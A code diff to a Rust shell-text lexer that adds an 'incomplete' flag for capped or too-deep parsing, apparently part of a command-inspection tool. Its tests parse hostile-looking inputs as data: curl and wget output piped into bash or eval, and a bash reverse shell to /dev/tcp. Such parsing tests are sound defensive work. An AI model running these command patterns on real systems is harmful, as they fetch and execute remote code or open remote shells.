@@ -174,16 +174,19 @@ impl Frame {
     }
 }
 
-/// The simple commands of a shell text, in order of their end.
-pub(crate) fn commands_of(text: &str) -> Vec<Command> {
+/// The simple commands of a shell text, in order of their end. `incomplete` is set
+/// if a cap was reached.
+pub(crate) fn commands_of(text: &str, incomplete: &mut bool) -> Vec<Command> {
     let mut lexer = Lexer {
         done: Vec::new(),
         open: vec![Frame::default()],
         n_pipelines: 1,
+        too_deep: false,
     };
     let mut chars = text.chars().peekable();
     while let Some(character) = chars.next() {
         if lexer.done.len() >= MAX_COMMANDS {
+            *incomplete = true;
             break;
         }
         let next = chars.peek().copied();
@@ -195,6 +198,7 @@ pub(crate) fn commands_of(text: &str) -> Vec<Command> {
         lexer.close();
     }
     lexer.end_command(false);
+    *incomplete |= lexer.too_deep;
     lexer.done
 }
 
@@ -203,6 +207,8 @@ struct Lexer {
     /// Never empty.
     open: Vec<Frame>,
     n_pipelines: usize,
+    /// Whether a substitution was not followed.
+    too_deep: bool,
 }
 
 impl Lexer {
@@ -297,6 +303,7 @@ impl Lexer {
 
     fn open_substitution(&mut self) {
         if self.open.len() >= MAX_DEPTH {
+            self.too_deep = true;
             self.end_command(false);
             return;
         }
@@ -352,8 +359,12 @@ impl Lexer {
 mod tests {
     use super::*;
 
+    fn read(text: &str) -> Vec<Command> {
+        commands_of(text, &mut false)
+    }
+
     fn check(text: &str, expected: &[&[&str]]) {
-        let words: Vec<Vec<String>> = commands_of(text).into_iter().map(|c| c.words).collect();
+        let words: Vec<Vec<String>> = read(text).into_iter().map(|c| c.words).collect();
         assert_eq!(words, expected, "{text}");
     }
 
@@ -370,7 +381,7 @@ mod tests {
 
     #[test]
     fn substitutions_name_what_they_feed() {
-        let commands = commands_of("bash -c \"$(curl -s u | tr a b)\" end");
+        let commands = read("bash -c \"$(curl -s u | tr a b)\" end");
         let curl = commands.iter().find(|c| c.name() == "curl").unwrap();
         assert_eq!(curl.feeds.as_deref(), Some("bash"));
         let tr = commands.iter().find(|c| c.name() == "tr").unwrap();
@@ -378,13 +389,13 @@ mod tests {
         let bash = commands.iter().find(|c| c.name() == "bash").unwrap();
         assert_eq!(bash.words, ["bash", "-c", "", "end"]);
         assert_ne!(bash.pipeline, tr.pipeline);
-        let old = commands_of("eval `wget -qO- u`");
+        let old = read("eval `wget -qO- u`");
         assert_eq!(old[0].feeds.as_deref(), Some("eval"));
     }
 
     #[test]
     fn redirections_are_not_arguments() {
-        let commands = commands_of("bash -i >& /dev/tcp/h/1 0>&1 2>/dev/null < in");
+        let commands = read("bash -i >& /dev/tcp/h/1 0>&1 2>/dev/null < in");
         assert_eq!(commands[0].words, ["bash", "-i"]);
         let targets: Vec<(bool, &str)> = commands[0]
             .redirects
@@ -411,7 +422,7 @@ mod tests {
             ("if grep -q a b", "grep"),
             ("sudo", "sudo"),
         ] {
-            assert_eq!(commands_of(text)[0].name(), name, "{text}");
+            assert_eq!(read(text)[0].name(), name, "{text}");
         }
     }
 }
